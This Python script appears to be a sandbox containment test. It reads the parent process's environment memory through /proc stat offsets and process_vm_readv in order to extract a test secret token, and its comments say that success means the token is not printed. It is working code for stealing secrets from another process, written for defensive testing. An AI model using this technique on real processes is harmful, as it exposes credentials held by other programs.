# Attack: read our parent's memory (in the jail: stockade's init, a fork of the host-side
# stockade) with process_vm_readv via ctypes: its environment block holds STOCKADE_TEST_SECRET.
# Evidence: the token must not appear. Control: run under a parent with the token in its
# environment, the token is printed.
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
libc.process_vm_readv.restype = ctypes.c_ssize_t
pid = os.getppid()
try:
    f = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    start, end = int(f[47]), int(f[48])  # fields 50, 51: env_start, env_end
except (OSError, IndexError) as e:
    start = end = 0
    print("STAT_DENIED", e)
n = max(end - start, 4096)
buf = ctypes.create_string_buffer(n)
local = iovec(ctypes.cast(buf, ctypes.c_void_p), n)
remote = iovec(start or 0x400000, n)
got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
if got < 0:
    print("READV_DENIED", ctypes.get_errno())
else:
    print("READV", buf.raw[:got].decode(errors="replace"))
